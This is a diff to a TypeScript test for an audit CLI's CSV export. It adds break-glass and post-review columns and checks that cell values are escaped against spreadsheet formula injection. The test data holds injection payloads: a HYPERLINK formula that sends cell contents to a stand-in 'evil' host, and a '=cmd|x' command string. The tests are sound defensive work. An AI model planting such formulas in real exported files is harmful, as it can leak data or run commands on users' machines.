@@ -74,6 +74,11 @@ describe('access audit sessions', () => {
       'queries',
       'end_reason',
       'reason',
+      'break_glass',
+      'post_review_verdict',
+      'post_reviewer',
+      'post_reviewed_at',
+      'post_review_comment',
     ]);
     const s = sessions[0]!;
     expect(first).toEqual([
@@ -91,8 +96,28 @@ describe('access audit sessions', () => {
       '3',
       'clientClosed',
       'INC-7, "the big one"',
+      'no',
+      '',
+      '',
+      '',
+      '',
     ]);
-    expect(second?.slice(8)).toEqual(['', '', '', '', '', `'=HYPERLINK("http://evil/?"&A1)`]);
+    expect(second?.slice(8, 14)).toEqual(['', '', '', '', '', `'=HYPERLINK("http://evil/?"&A1)`]);
+  });
+
+  it('puts a break-glass session and its post-review in the CSV, the comment made safe for a spreadsheet', async () => {
+    const review = {
+      reviewer: { oid: 'oid-bob', upn: 'bob@contoso.com' },
+      verdict: 'not_acceptable' as const,
+      comment: '=cmd|x',
+      at: '2025-03-04T11:00:00.000Z',
+    };
+    const sessions = [sessionView({ breakGlass: true, postReview: review }), sessionView({ id: 's2', breakGlass: true, postReview: null })];
+    const h = harness({ routes: { 'GET /v1/audit/sessions?limit=100': () => ({ sessions }) } });
+    expect(await h.run('audit', 'sessions', '--csv')).toBe(0);
+    const [, reviewed, waiting] = parseCsv(h.stdout());
+    expect(reviewed?.slice(14)).toEqual(['yes', 'not_acceptable', 'bob@contoso.com', '2025-03-04T11:00:00.000Z', "'=cmd|x"]);
+    expect(waiting?.slice(14)).toEqual(['yes', '', '', '', '']);
   });
 
   it('prints the sessions as JSON', async () => {
